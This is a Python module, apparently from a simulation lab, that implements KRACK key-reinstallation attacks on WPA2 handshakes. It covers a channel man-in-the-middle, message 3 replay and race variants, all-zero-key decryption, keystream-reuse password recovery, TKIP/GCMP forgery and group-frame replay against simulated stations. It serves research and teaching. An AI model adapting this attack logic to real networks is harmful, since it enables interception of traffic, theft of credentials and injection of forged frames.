"""The attacks, each a script over one simulated world: topology, the attacker's policy, and what it
got out of the run.

Every attempt builds a fresh :class:`Lab` (AP, network, victim, attacker) from a seed and runs it on
the virtual clock. The attacker never reads a station's keys or state: it acts on what it intercepts
and decides from what it observes (nonce reuse, a frame decrypting under an all-zero key, replies).
Whether a replayed or forged frame was *accepted* is read from the receiving station's ground truth
(its NIC's log of accepted frames): that is what the run proves, not what the attacker believes.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass, field, replace

from krackwatch.crypto import Cipher
from krackwatch.lab.crack import (
    Partial,
    Sniffed,
    Template,
    dhcp_client_template,
    eapol_template,
    find_secret,
    forge_gcmp,
    forge_tkip,
    ipv6_templates,
    michael_key_from,
    pn_of,
    recover_gcmp_hash_key,
    recover_plaintexts,
    reuse_groups,
    zero_tk_plaintext,
)
from krackwatch.lab.frames import FC_FROMDS, TxKey, data_frame
from krackwatch.lab.gf128 import to_block
from krackwatch.lab.hosts import Network
from krackwatch.lab.mitm import Action, ChannelMitm, Direction, Intercept
from krackwatch.lab.packets import LLC_SNAP, EtherType, icmp_echo, ip_text, ipv4, parse_ipv4
from krackwatch.lab.stations import AccessPoint, Client
from krackwatch.lab.world import DEFAULT_AP_MAC, DEFAULT_VICTIM_MAC, NetConfig, World
from krackwatch.protocol.ft import FTConfig
from krackwatch.protocol.profile import Profile

__all__ = ["AP2_MAC", "AP_MAC", "VICTIM_MAC", "Lab", "Outcome"]

AP_MAC = DEFAULT_AP_MAC  # defaults; a run's own addresses are in its NetConfig
AP2_MAC = bytes.fromhex("024b57000002")
VICTIM_MAC = DEFAULT_VICTIM_MAC
REAL_CHANNEL = 6
_WORDS = ("orchid", "falcon", "harbor", "lantern", "meadow", "quartz", "saffron", "tundra", "velvet", "willow")


def lab_password(seed: int) -> str:
    """The victim's portal password of a run (deterministic per seed)."""
    rng = random.Random(f"krackwatch-lab/{seed}/password")
    return f"{rng.choice(_WORDS)}-{rng.randrange(1000, 10000)}"


@dataclass(slots=True)
class Outcome:
    """What one attempt achieved, as the attacker reports it (``achieved``) and as the stations'
    ground truth confirms it (the counters)."""

    variant: str
    evidence: list[str] = field(default_factory=list)
    achieved: list[str] = field(default_factory=list)
    password: str | None = None
    decrypted_frames: int = 0
    keystream_reuse: int = 0
    zero_tk: bool = False
    replays_sent: int = 0
    replays_accepted: int = 0
    forged_sent: int = 0
    forged_accepted: int = 0
    recovered_keys: dict[str, str] = field(default_factory=dict)
    samples: list[str] = field(default_factory=list)  # recovered plaintext excerpts

    @property
    def success(self) -> bool:
        return bool(self.password or self.decrypted_frames or self.replays_accepted or self.forged_accepted)


class Lab:
    """One world: an AP with the network behind it, the victim, and whatever attacker is added."""

    def __init__(self, *, seed: int, net: NetConfig, victim_profile: Profile, ap_profile: Profile,
                 record: bool = True, ptk_rekey_after: float | None = None, gtk_rekey_after: float | None = None,
                 rekey_on_connection: int = 2) -> None:
        self.seed = seed
        self.world = World(seed, net, record=record)
        w = self.world
        self.password = lab_password(seed)
        self.ap_mac = net.ap_mac
        self.victim_mac = net.victim_mac
        self.ap = AccessPoint(w, name="ap", bssid=net.ap_mac, channel=REAL_CHANNEL, profile=ap_profile)
        self.network = Network(w.loop, w.rng("network"), self.ap.send_msdu, lan=net.lan)
        self.ap.network = self.network
        self.victim = Client(w, name="victim", mac=net.victim_mac, profile=victim_profile, bssid=net.ap_mac,
                             channel=REAL_CHANNEL, password=self.password)
        self.connections = 0

        def connected(mac: bytes) -> None:
            self.connections += 1
            if self.connections != rekey_on_connection:
                return
            if ptk_rekey_after is not None:
                w.loop.at(w.loop.now + ptk_rekey_after, lambda: self.ap.rekey_ptk(mac))
            if gtk_rekey_after is not None:
                w.loop.at(w.loop.now + gtk_rekey_after, self.ap.rekey_gtk)

        self.ap.on_connected.append(connected)

    @property
    def now(self) -> float:
        return self.world.loop.now

    def run(self, until: float, stop: Callable[[], bool] | None = None) -> None:
        self.world.loop.run(until, stop)


def accepted_again(trace_accepted: list[tuple[float, bytes]], frame: bytes, since: float) -> bool:
    """The frame was accepted at least twice, once at or after ``since`` (a replay went through)."""
    times = [t for t, f in trace_accepted if f == frame]
    return len(times) >= 2 and times[-1] >= since


# --------------------------------------------------------------------------- the channel MitM setup


class MitmAttack:
    """Phase 0 of every man-in-the-middle attack: the victim is connected to the AP on the real
    channel; the attacker moves it to the rogue channel with CSA beacons and makes it reconnect
    (spoofed deauthentication), so that the next handshake runs through the attacker."""

    variant = "mitm"
    duration = 8.0

    def __init__(self, lab: Lab) -> None:
        self.lab = lab
        self.mitm = ChannelMitm(lab.world, ap=lab.ap_mac, victim=lab.victim_mac, real_channel=REAL_CHANNEL)
        self.mitm.observers.append(self._observe)
        self.mitm.policy = self._policy
        self.phase = "setup"
        self.outcome = Outcome(self.variant)
        self.cipher = lab.world.net.pairwise
        self.t_attack = 0.0  # when the victim started associating through the MitM
        self.done = False
        self.m1_plain: Intercept | None = None
        self.m4_plain: Intercept | None = None
        self.handshake_done = False  # the attacker relayed the reassociation's plaintext msg 4/4
        self._forged: tuple[bytes, float] | None = None

    def at(self, delay: float, fn: Callable[[], None]) -> None:
        self.lab.world.loop.at(self.lab.now + delay, fn)

    def _observe(self, i: Intercept) -> None:
        if self.phase == "setup" and i.kind == "eapol-m3" and i.direction is Direction.TO_VICTIM:
            self.phase = "lure"
            self.mitm.start()
            self.at(0.02, self.mitm.send_csa)
            self.at(0.40, self.mitm.deauth_victim)
        elif self.phase == "lure" and i.kind == "assoc-req" and i.direction is Direction.TO_AP:
            self.phase = "attack"
            self.t_attack = i.time
        if self.phase == "attack":
            if i.kind == "eapol-m1" and self.m1_plain is None:
                self.m1_plain = i
            elif i.kind == "eapol-m4" and i.direction is Direction.TO_AP:
                self.handshake_done = True
            self.observe(i)

    def _policy(self, i: Intercept) -> Action:
        if self.phase != "attack":
            return Action.FORWARD
        return self.policy(i)

    # hooks
    def observe(self, i: Intercept) -> None:
        pass

    def policy(self, i: Intercept) -> Action:
        return Action.FORWARD

    def finish(self) -> None:
        self.done = True

    def run(self) -> Outcome:
        self.lab.victim.connect(0.05)
        self.lab.run(self.duration, lambda: self.done)
        return self.outcome

    # ------------------------------------------------------------------ shared exploitation
    def victim_frames(self, since: float) -> list[tuple[Intercept, Sniffed]]:
        """Every protected unicast frame the victim sent since ``since``, as the attacker caught it."""
        out = []
        for i in self.mitm.seen:
            if i.direction is Direction.TO_AP and i.protected and not i.group and i.time >= since \
                    and len(i.frame) > 40:
                out.append((i, Sniffed(i.time, i.frame, pn_of(i.frame, self.cipher), self.cipher,
                                       id(i) in self.mitm.delivered)))
        return out

    def replay_group(self, candidates: list[Intercept], what: str) -> list[tuple[bytes, float]]:
        """Replay group-addressed frames the victim already received (krackattacks-scripts' replayed
        broadcast ARP requests; a BIP-protected robust action frame for the IGTK)."""
        sent = []
        for i in candidates:
            self.mitm.inject(i.frame, Direction.TO_VICTIM, f"attacker: replays {what} (captured at {i.time:.3f}s)")
            sent.append((i.frame, self.lab.now))
        self.outcome.replays_sent += len(sent)
        return sent

    def count_replays(self, sent: list[tuple[bytes, float]], station_accepted: list[tuple[float, bytes]]) -> int:
        n = sum(1 for frame, t in sent if accepted_again(station_accepted, frame, t))
        self.outcome.replays_accepted += n
        return n

    def templates(self, frames: list[tuple[Intercept, Sniffed]], *, eapol: dict[int, bytes]
                  ) -> dict[int, list[Template]]:
        """The known plaintexts the attacker assigns to captured frames by their length: IPv6 link-up
        messages (fixed by the MAC), DHCP client messages, and predicted EAPOL-Key messages
        (``eapol``: MSDU length -> EAPOL frame). A wrong guess is discarded by the recovery."""
        tkip = self.cipher.canonical is Cipher.TKIP
        fixed = ipv6_templates(self.lab.victim_mac, tkip=tkip)
        dhcp = dhcp_client_template(self.lab.victim_mac, tkip=tkip)
        eapol_t = {n: eapol_template("EAPOL-Key", e, tkip=tkip) for n, e in eapol.items()}
        out: dict[int, list[Template]] = {}
        for k, (i, s) in enumerate(frames):
            cands = [t for t in fixed if len(t.value) == len(s.ct)]
            if len(dhcp.value) == len(s.ct):
                cands.append(dhcp)
            t = eapol_t.get(s.msdu_len)
            if t is not None and len(t.value) == len(s.ct):
                cands.append(t)
            if cands:
                out[k] = cands
        return out

    def decrypt_by_reuse(self, frames: list[tuple[Intercept, Sniffed]], templates: dict[int, list[Template]]
                         ) -> dict[int, Partial]:
        """Keystream reuse analysis over the victim's frames; fills the outcome."""
        sniffed = [s for _, s in frames]
        groups = reuse_groups(sniffed)
        if not groups:
            return {}
        reused = sum(len(g) for g in groups)
        self.outcome.keystream_reuse = reused
        pns = sorted({sniffed[g[0]].pn for g in groups})
        self.outcome.evidence.append(
            f"nonce and keystream reuse: {reused} of the victim's frames share {len(groups)} packet number(s) "
            f"({_ranges(pns)}) under the same keystream (first 6 octets)"
        )
        parts = recover_plaintexts(sniffed, templates)
        decrypted = 0
        for k, p in sorted(parts.items()):
            if k in templates:
                continue  # its plaintext was guessed, not recovered
            s = sniffed[k]
            known = sum(p.known[: s.msdu_len])
            if known < 24:
                continue
            decrypted += 1
            if len(self.outcome.samples) < 6:
                self.outcome.samples.append(f"PN {s.pn}: {_describe(p, s.msdu_len)}")
            secret = find_secret(p, s.msdu_len)
            if secret and not self.outcome.password:
                self.outcome.password = secret
                self.outcome.achieved.append(
                    f"recovered the HTTP login password {secret!r} from the victim's frame with PN {s.pn} "
                    f"(keystream reuse with a known-plaintext frame at the same PN)"
                )
        if decrypted:
            self.outcome.decrypted_frames += decrypted
            self.outcome.achieved.append(f"decrypted {decrypted} of the victim's frames by keystream reuse")
        return parts

    def forge(self, frames: list[tuple[Intercept, Sniffed]], templates: dict[int, list[Template]],
              ap_seen_pn: int, victim_ip: bytes | None) -> bool:
        """TKIP/GCMP: recover the victim's Michael key / the GHASH key and forge a frame to the AP at a
        packet number the AP has not seen, with keystream from a frame the attacker kept from it.
        Returns False while there is not enough material yet."""
        c = self.cipher.canonical
        sniffed = [s for _, s in frames]
        parts = recover_plaintexts(sniffed, templates)
        lan = self.lab.world.net.lan
        src_ip = victim_ip or _victim_ip(parts) or bytes(4)
        msdu = LLC_SNAP + EtherType.IPV4.to_bytes(2, "big") + ipv4(
            src_ip, lan.gateway_ip, 1, icmp_echo(0x4B57, 1, b"forged-by-KRACK!"), ident=0x4B57)
        header = data_frame(0x4100, self.lab.ap_mac, self.lab.victim_mac, lan.gateway_mac, 0x7FF, b"")  # ToDS, Protected
        # A carrier is a frame the AP never saw, at a PN above what it saw, whose plaintext (recovered,
        # or known outright like the held encrypted msg 4) gives the keystream.
        known = {k: parts[k] if k in parts else templates[k][0].partial() for k in set(parts) | set(templates)}
        carriers = sorted(((k, s) for k, s in enumerate(sniffed) if not s.delivered and s.pn > ap_seen_pn
                           and k in known), key=lambda ks: -ks[1].pn)
        forged = None
        if c is Cipher.TKIP:
            key = next((m for m in (michael_key_from(sniffed[k], p) for k, p in parts.items()) if m), None)
            if key is None:
                return False
            for k, s in carriers:
                forged = forge_tkip(s, known[k], key, header, msdu)
                if forged is not None:
                    break
            if forged is not None:
                self.outcome.recovered_keys["michael_sta_to_ap"] = key.hex()
                self.outcome.achieved.append(
                    f"recovered the victim's TKIP Michael key {key.hex()} from a fully decrypted frame")
        else:
            h = recover_gcmp_hash_key(sniffed)
            if h is None:
                return False
            for k, s in carriers:
                forged = forge_gcmp(s, known[k], h, header, msdu)
                if forged is not None:
                    break
            if forged is not None:
                self.outcome.recovered_keys["gcmp_hash_key"] = to_block(h).hex()
                self.outcome.achieved.append(
                    f"recovered the GCMP authentication (GHASH) key H = {to_block(h).hex()} from nonce-reusing "
                    "frame pairs")
        if forged is None:
            return False
        self.mitm.inject(forged, Direction.TO_AP, "attacker: forged ICMP echo request in the victim's name")
        self.outcome.forged_sent += 1
        self._forged = (forged, self.lab.now)
        return True

    def count_forgeries(self) -> None:
        if self._forged is None:
            return
        frame, t = self._forged
        if any(f == frame and ts >= t for ts, f in self.lab.ap.trace.accepted):
            self.outcome.forged_accepted += 1
            self.outcome.achieved.append("the AP accepted a forged frame in the victim's name (ICMP echo request "
                                         "'forged-by-KRACK!' to the gateway)")


def _ranges(values: list[int]) -> str:
    out, start, prev = [], None, None
    for v in values:
        if start is None:
            start = prev = v
        elif v == prev + 1:
            prev = v
        else:
            out.append(f"{start}" if start == prev else f"{start}-{prev}")
            start = prev = v
    if start is not None:
        out.append(f"{start}" if start == prev else f"{start}-{prev}")
    return ", ".join(out)


def _describe(p: Partial, msdu_len: int) -> str:
    """A short description of a (partly) recovered MSDU; unknown octets print as ``?``."""
    v, k = bytes(p.value), p.known
    if not all(k[:8]):
        return repr(p.text(0, min(msdu_len, 96)))
    et = v[6:8]
    if et == b"\x08\x06" and msdu_len >= 36 and all(k[8:36]):
        op = "request" if v[15] == 1 else "reply"
        return f"ARP {op}: {ip_text(v[22:26])} is-at {v[16:22].hex(':')}, to {ip_text(v[32:36])}"
    if et == b"\x08\x00" and msdu_len >= 28 and all(k[8:28]):
        pkt = parse_ipv4(v[8:msdu_len])
        if pkt is not None:
            proto = {1: "ICMP", 6: "TCP", 17: "UDP"}.get(pkt.proto, str(pkt.proto))
            where = f"{ip_text(pkt.src)} -> {ip_text(pkt.dst)}"
            start = 28
            if pkt.proto in (6, 17) and all(k[28:32]):
                where = (f"{ip_text(pkt.src)}:{int.from_bytes(v[28:30], 'big')} -> "
                         f"{ip_text(pkt.dst)}:{int.from_bytes(v[30:32], 'big')}")
                start = 28 + (8 if pkt.proto == 17 else 20)
            text = p.text(start, min(msdu_len, start + 100))
            return f"IPv4 {proto} {where}" + (f": {text!r}" if text else "")
    return repr(p.text(0, min(msdu_len, 96)))


# --------------------------------------------------------------------------- the 4-way handshake


class ZeroKeyNetwork:
    """After an all-zero TK install the attacker can encrypt and decrypt the victim's unicast
    traffic itself: it stops relaying and plays the network (DHCP, DNS, the login portal), as the
    published demonstration did against Android."""

    def __init__(self, attack: MitmAttack) -> None:
        self.attack = attack
        c = attack.cipher
        tkip = c.canonical is Cipher.TKIP
        self.tx = TxKey(c, bytes(c.tk_len), 0, michael=bytes(8) if tkip else None)
        w = attack.lab.world
        self.network = Network(w.loop, w.rng("attacker-network"), self._send, lan=w.net.lan)
        self._seq = 0x900

    def _send(self, dst: bytes, src: bytes, ethertype: int, payload: bytes) -> None:
        if dst[0] & 1:
            return  # no GTK: the attacker cannot send group-addressed frames
        self._seq = (self._seq + 1) & 0xFFF
        hdr = data_frame(FC_FROMDS, dst, self.attack.lab.ap_mac, src, self._seq, b"")
        frame = self.tx.protect(hdr, LLC_SNAP + ethertype.to_bytes(2, "big") + payload)
        self.attack.mitm.inject(frame, Direction.TO_VICTIM, "attacker: answers the victim under the all-zero TK")

    def feed(self, frame: bytes) -> None:
        msdu = zero_tk_plaintext(frame, self.attack.cipher)
        if msdu is None or len(msdu) < 8 or msdu[:6] != LLC_SNAP:
            return
        ethertype = msdu[6] << 8 | msdu[7]
        if ethertype != EtherType.EAPOL:
            self.network.receive(self.attack.lab.victim_mac, frame[16:22], ethertype, msdu[8:])


class FourWayAttack(MitmAttack):
    """Shared exploitation once a retransmitted message 3 reached the victim (CVE-2017-13077 and
    -13078): watch for an all-zero TK and for nonce reuse, decrypt, replay group-addressed frames the
    victim already received, and (TKIP/GCMP) forge. ``tptk`` adds forged message 1s before the
    message 3 (``"same"``: the original ANonce; ``"rand"``: a random one, then the original so that
    the message 3's ANonce matches again). ``replay_kinds`` picks what is replayed (broadcast data
    for the GTK, BIP-protected robust action frames for the IGTK) and ``replay_after`` when (seconds after
    the message 3 was delivered): a genuine group frame that reaches the victim first moves its replay
    counter past the replayed ones again."""

    observe_for = 2.0

    def __init__(self, lab: Lab, *, tptk: str | None = None,
                 replay_kinds: tuple[str, ...] = ("group-data", "group-mgmt"), replay_after: float = 0.4) -> None:
        super().__init__(lab)
        self.tptk = tptk
        self.replay_kinds = replay_kinds
        self.replay_after = replay_after
        self.stage = "handshake"
        self.t_trigger: float | None = None
        self.delivered_m3: Intercept | None = None
        self.zero: ZeroKeyNetwork | None = None
        self.m4_carrier_blocked = False
        self.replay_sent: list[tuple[bytes, float]] = []
        self.predicted_m4: bytes | None = None
        self.ap_completed = False  # a plaintext msg 4/4 reached the AP
        self.forging = self.cipher.canonical in (Cipher.TKIP, Cipher.GCMP128, Cipher.GCMP256)
        self.guard_pn: int | None = None  # hold the victim's frames from this PN on until the forgery is out
        self.guarded: list[Intercept] = []

    # ------------------------------------------------------------------ message 1 forgery (TPTK)
    def forged_msg1s(self, rc: int) -> list[bytes]:
        """Plaintext message 1s the attacker builds from the one it saw: message 1 carries no MIC."""
        if not self.tptk or self.m1_plain is None:
            return []
        frame = self.m1_plain.frame
        head, eapol = frame[:32], bytearray(frame[32:])
        eapol[9:17] = rc.to_bytes(8, "big")
        out = []
        if self.tptk == "rand":
            rnd = bytearray(eapol)
            rnd[17:49] = self.lab.world.rng("attacker/anonce").randbytes(32)
            out.append(head + bytes(rnd))
        out.append(head + bytes(eapol))
        return out

    def deliver_msg3(self, *m3s: Intercept, label: str) -> None:
        """Send the chosen message 3(s) to the victim back to back, forged message 1s before the last."""
        last = m3s[-1]
        for m in m3s[:-1]:
            self.mitm.release(m, f"attacker: delivers held msg 3/4 (replay counter {m.replay_counter})")
        for f in self.forged_msg1s(last.replay_counter or 0):
            self.mitm.inject(f, Direction.TO_VICTIM, f"attacker: forged msg 1/4 (replay counter {last.replay_counter})")
        self.mitm.release(last, f"attacker: delivers {label} (replay counter {last.replay_counter})")
        self.delivered_m3 = last
        self.start_exploit()

    def start_exploit(self) -> None:
        self.stage = "exploit"
        self.t_trigger = self.lab.now
        if self.m4_plain is not None and self.delivered_m3 is not None and self.delivered_m3.replay_counter:
            self.predicted_m4 = self._m4_with_rc(self.delivered_m3.replay_counter)
        if self.forging:
            kept = [pn_of(i.frame, self.cipher) for i in self.mitm.seen
                    if i.direction is Direction.TO_AP and i.protected and not i.group and i.time >= self.t_attack
                    and id(i) not in self.mitm.delivered]
            self.guard_pn = max(kept, default=None)
            for k in range(1, 25):
                self.at(0.02 * k, self.try_forge)
            self.at(0.5, self.stop_guard)
        self.at(self.replay_after, self.replay_broadcasts)
        self.at(self.observe_for, self.analyse)
        self.at(self.observe_for + 0.6, self.conclude)

    def eapol_predictions(self) -> dict[int, bytes]:
        if self.predicted_m4 is None:
            return {}
        return {8 + len(self.predicted_m4): self.predicted_m4}

    def try_forge(self) -> None:
        """Forge once the victim's own traffic reached the carrier's PN (so that the forgery, which
        moves the AP's replay counter up, costs the victim no frame but the one being held)."""
        if not self.forging or self.zero is not None or self.outcome.forged_sent or self.t_trigger is None:
            return
        frames = self.victim_frames(self.t_attack)
        delivered_after = [s.pn for i, s in frames if s.delivered and i.time >= self.t_trigger]
        late = self.lab.now - self.t_trigger > 0.45
        if self.guard_pn is not None and max(delivered_after, default=0) < self.guard_pn - 1 and not late:
            return
        templates = self.templates(frames, eapol=self.eapol_predictions())
        if self.forge(frames, templates, max(delivered_after, default=0), None):
            self.stop_guard()

    def stop_guard(self) -> None:
        self.guard_pn = None
        for i in self.guarded:
            self.mitm.release(i, "attacker: releases a frame it held while forging")
        self.guarded.clear()

    def _m4_with_rc(self, rc: int) -> bytes:
        assert self.m4_plain is not None
        eapol = bytearray(self.m4_plain.frame[32:])
        eapol[9:17] = rc.to_bytes(8, "big")
        return bytes(eapol)

    # ------------------------------------------------------------------ during the exploit
    def observe(self, i: Intercept) -> None:
        if i.kind == "eapol-m4" and i.direction is Direction.TO_AP and self.m4_plain is None:
            self.m4_plain = i
        if self.stage == "exploit" and i.direction is Direction.TO_AP and i.protected and not i.group:
            if self.zero is None and zero_tk_plaintext(i.frame, self.cipher) is not None:
                self.zero = ZeroKeyNetwork(self)
                self.outcome.zero_tk = True
                self.outcome.evidence.append(
                    f"the victim's frame with PN {pn_of(i.frame, self.cipher)} decrypts under an all-zero TK "
                    "(it installed an all-zero key)"
                )
            if self.zero is not None:
                self.zero.feed(i.frame)

    def exploit_policy(self, i: Intercept) -> Action:
        if i.direction is Direction.TO_AP:
            if self.guard_pn is not None and i.protected and not i.group and i.kind == "data" \
                    and pn_of(i.frame, self.cipher) >= self.guard_pn:
                self.guarded.append(i)
                return Action.HOLD
            if i.kind == "enc-eapol" and not self.m4_carrier_blocked and "m4" in (i.enc_kind or ""):
                self.m4_carrier_blocked = True
                return Action.BLOCK  # the victim's encrypted msg 4: known plaintext, kept from the AP
            if i.kind == "eapol-m4" and not self.ap_completed:
                self.ap_completed = True
                return Action.FORWARD  # completes the AP's side of the handshake
            if i.kind.startswith("eapol-"):
                return Action.BLOCK
            if self.zero is not None and i.protected:
                return Action.BLOCK
            return Action.FORWARD
        if i.kind.startswith("eapol-") or (self.zero is not None and i.protected and not i.group):
            return Action.BLOCK
        return Action.FORWARD

    def replay_broadcasts(self) -> None:
        """Replay the group-addressed frames the victim received after the delivered message 3 was
        generated: a reinstalled GTK/IGTK (RSC from that message 3) accepts them again."""
        if self.delivered_m3 is None or self.t_trigger is None:
            return
        t0 = self.delivered_m3.time
        cands = [i for i in self.mitm.seen if i.direction is Direction.TO_VICTIM and i.group
                 and t0 < i.time < self.t_trigger and id(i) in self.mitm.delivered
                 and i.kind in self.replay_kinds]
        self.replay_sent = self.replay_group(cands[-4:], "a group-addressed frame the victim already received")

    def analyse(self) -> None:
        if self.zero is not None:
            return
        frames = self.victim_frames(self.t_attack)
        self.decrypt_by_reuse(frames, self.templates(frames, eapol=self.eapol_predictions()))

    def conclude(self) -> None:
        n = self.count_replays(self.replay_sent, self.lab.victim.trace.accepted)
        if n:
            self.outcome.achieved.append(
                f"the victim accepted {n} replayed group-addressed frame(s) it had already received "
                "(group key reinstalled)")
        self.count_forgeries()
        if self.zero is not None:
            logins = self.zero.network.logins
            self.outcome.decrypted_frames += len(self.zero.network.received)
            self.outcome.achieved.append(
                f"decrypted {len(self.zero.network.received)} of the victim's frames under the all-zero TK and "
                "answered them as the network")
            if logins:
                form = logins[0][2].decode("utf-8", "replace")
                secret = form.split("password=", 1)[-1].split("&")[0] if "password=" in form else None
                if secret:
                    self.outcome.password = secret
                    self.outcome.achieved.append(
                        f"the victim logged in to the attacker's portal: HTTP password {secret!r}")
        self.finish()

    def policy(self, i: Intercept) -> Action:
        if self.stage == "exploit":
            return self.exploit_policy(i)
        return self.handshake_policy(i)

    def handshake_policy(self, i: Intercept) -> Action:
        return Action.FORWARD


class PlaintextRetransmission(FourWayAttack):
    """Paper 3.3 / Fig. 4: block message 4 and the victim's data; hold the AP's retransmitted message 3s;
    deliver the oldest one once the AP sent its last, then complete the AP's side with the held
    plaintext message 4 (the AP accepts any pending replay counter)."""

    variant = "plaintext msg 3 retransmission"

    def __init__(self, lab: Lab, **kw) -> None:
        super().__init__(lab, **kw)
        self.m3_first: Intercept | None = None
        self.m3_retx: list[Intercept] = []
        self.m4_held: Intercept | None = None

    def handshake_policy(self, i: Intercept) -> Action:
        if i.direction is Direction.TO_VICTIM:
            if i.kind == "eapol-m3":
                if self.m3_first is None:
                    self.m3_first = i
                    self.at(2.2, self.trigger)  # fallback if the AP retries less often
                    return Action.FORWARD
                self.m3_retx.append(i)
                if len(self.m3_retx) >= 3:
                    self.at(0.0, self.trigger)
                return Action.HOLD
            return Action.FORWARD
        if i.kind == "eapol-m4":
            if self.m4_held is None:
                self.m4_held = i
                return Action.HOLD
            return Action.BLOCK
        if self.m3_first is not None and i.protected:
            return Action.BLOCK  # the victim's first frames under the new PTK never reach the AP
        return Action.FORWARD

    def trigger(self) -> None:
        if self.stage != "handshake" or not self.m3_retx:
            return
        self.deliver_msg3(self.m3_retx[0], label="retransmitted msg 3/4")
        if self.m4_held is not None:
            m4 = self.m4_held
            self.ap_completed = True
            self.at(0.005, lambda: self.mitm.release(m4, "attacker: completes the AP's handshake with the held msg 4/4"))


class QuickPlaintextRace(FourWayAttack):
    """Paper 3.4 / Fig. 5: hold the first message 3 until the AP retransmits it, then deliver both
    back to back: the second is still queued in plaintext when the first installs the PTK."""

    variant = "quick plaintext msg 3 race"

    def __init__(self, lab: Lab, **kw) -> None:
        super().__init__(lab, **kw)
        self.m3s: list[Intercept] = []

    def handshake_policy(self, i: Intercept) -> Action:
        if i.direction is Direction.TO_VICTIM and i.kind == "eapol-m3":
            self.m3s.append(i)
            if len(self.m3s) == 2:
                self.at(0.0, lambda: self.deliver_msg3(*self.m3s, label="retransmitted msg 3/4 right behind it"))
            return Action.HOLD
        return Action.FORWARD


class EncryptedRekeyRace(FourWayAttack):
    """Paper 3.4 / Fig. 6: during a PTK rekey, hold the encrypted message 3 until the AP retransmits
    it and deliver both back to back; the NIC decrypts both with the old PTK before the CPU installs
    the new one. The first message 4 (under the old PTK) completes the AP's side."""

    variant = "encrypted msg 3 race during a PTK rekey"
    duration = 10.0

    def __init__(self, lab: Lab, **kw) -> None:
        super().__init__(lab, **kw)
        self.m3s: list[Intercept] = []
        self.last_plain_rc = 0
        self.ap_eapol_since = 0
        self.m4_forwarded = False

    def observe(self, i: Intercept) -> None:
        super().observe(i)
        if i.direction is Direction.TO_VICTIM and i.replay_counter is not None:
            self.last_plain_rc, self.ap_eapol_since = i.replay_counter, 0
        elif i.direction is Direction.TO_VICTIM and i.kind == "enc-eapol":
            self.ap_eapol_since += 1  # every EAPOL-Key frame from the AP takes the next replay counter

    def handshake_policy(self, i: Intercept) -> Action:
        if i.direction is Direction.TO_VICTIM and i.kind == "enc-eapol" and i.enc_kind == "m3":
            self.m3s.append(i)
            if len(self.m3s) == 2:
                self.at(0.0, self.race)
            return Action.HOLD
        return Action.FORWARD

    def race(self) -> None:
        rc = self.last_plain_rc + self.ap_eapol_since  # replay counter of the last held message 3
        for m in self.m3s[:-1]:
            self.mitm.release(m, "attacker: delivers the held encrypted msg 3/4 of the rekey")
        self.mitm.release(self.m3s[-1], "attacker: delivers the retransmitted encrypted msg 3/4 right behind it")
        self.delivered_m3 = replace(self.m3s[-1], replay_counter=rc)
        self.start_exploit()

    def exploit_policy(self, i: Intercept) -> Action:
        if i.direction is Direction.TO_AP and i.kind == "enc-eapol" and "m4" in (i.enc_kind or "") \
                and not self.m4_forwarded:
            self.m4_forwarded = True
            return Action.FORWARD  # msg 4 under the old PTK: the AP installs the new PTK
        return super().exploit_policy(i)


def _victim_ip(parts: dict[int, Partial]) -> bytes | None:
    """The victim's IPv4 address, from the source of a recovered IPv4 header."""
    for p in parts.values():
        v, kn = p.value, p.known
        if len(v) >= 28 and all(kn[:28]) and bytes(v[6:8]) == b"\x08\x00":
            src = bytes(v[20:24])
            if any(src) and src != b"\xff" * 4:
                return src
    return None


# --------------------------------------------------------------------------- the group key handshake


class GroupKeyAttack(MitmAttack):
    """Paper 4.2 / 4.3 (Figs. 7, 8), CVE-2017-13080 (GTK) and -13081 (IGTK): during a group key
    handshake, hold the victim's group msg 2/2 (and the frames it sends after it, which would
    otherwise overtake it) and the AP's retransmitted group msg 1/2; give the AP the held msg 2/2
    (with delayed installation it only then starts using the new group key); wait for a
    group-addressed frame under the new key, sent after that msg 1/2 was generated, and let the
    victim receive it; then deliver the held msg 1/2 and replay the frame. ``replay_kind`` is
    ``group-data`` (a broadcast data frame, GTK) or ``group-mgmt`` (the AP's BIP-protected broadcast
    Radio Measurement Request, IGTK: a victim that accepts the replay answers it with a second Radio
    Measurement Report, the reaction a passive observer sees)."""

    variant = "group key handshake"
    duration = 8.0

    def __init__(self, lab: Lab, *, replay_kind: str = "group-data", label: str = "") -> None:
        super().__init__(lab)
        self.replay_kind = replay_kind
        self.outcome.variant = f"group key handshake{label}"
        self.msg2: Intercept | None = None
        self.msg1s: list[Intercept] = []
        self.stage = "wait"
        self.b: Intercept | None = None
        self.sent: list[tuple[bytes, float]] = []
        self.old_key_id: int | None = None
        self.behind: list[Intercept] = []

    def release_msg2(self) -> None:
        assert self.msg2 is not None
        self.mitm.release(self.msg2, "attacker: gives the AP the held group msg 2/2")
        for i in self.behind:
            self.mitm.release(i, "attacker: releases a frame it held behind group msg 2/2")
        self.behind.clear()

    @staticmethod
    def key_id(i: Intercept) -> int:
        """Key ID of a group-addressed frame, readable without the key: the CCMP/GCMP/TKIP header's
        Key ID octet (data) or the Management MIC element's Key ID (BIP)."""
        if i.kind == "group-mgmt":
            return int.from_bytes(i.frame[-16:-14], "little")
        return i.frame[27] >> 6

    def policy(self, i: Intercept) -> Action:
        link_up = self.handshake_done
        if i.kind == self.replay_kind and i.direction is Direction.TO_VICTIM and not self.msg1s:
            self.old_key_id = self.key_id(i)  # the group key in use before the handshake
        if i.direction is Direction.TO_AP and i.kind == "enc-eapol" and link_up and self.msg1s and self.msg2 is None:
            self.msg2 = i
            return Action.HOLD
        if self.msg2 is not None and self.msg2 in self.mitm.held and i.direction is Direction.TO_AP and i.protected:
            self.behind.append(i)  # later frames would overtake msg 2/2 and make the AP drop it as a replay
            return Action.HOLD
        if i.direction is Direction.TO_VICTIM and i.kind == "enc-eapol" and i.enc_kind == "group-m1" and link_up:
            self.msg1s.append(i)
            if len(self.msg1s) == 1:
                return Action.FORWARD
            if len(self.msg1s) == 2:
                self.stage = "await-broadcast"
                if self.msg2 is not None:
                    self.at(0.0, self.release_msg2)
                return Action.HOLD
            return Action.BLOCK
        if self.stage == "await-broadcast" and i.direction is Direction.TO_VICTIM and i.kind == self.replay_kind \
                and self.key_id(i) != self.old_key_id:  # sent under the new group key
            self.stage = "reinstall"
            self.b = i
            self.at(0.01, self.reinstall)
        if self.stage in ("reinstall", "done") and i.direction is Direction.TO_AP and i.kind == "enc-eapol":
            return Action.BLOCK  # the victim's answer to the replayed msg 1/2: the AP is done
        return Action.FORWARD

    def reinstall(self) -> None:
        m1 = self.msg1s[1]
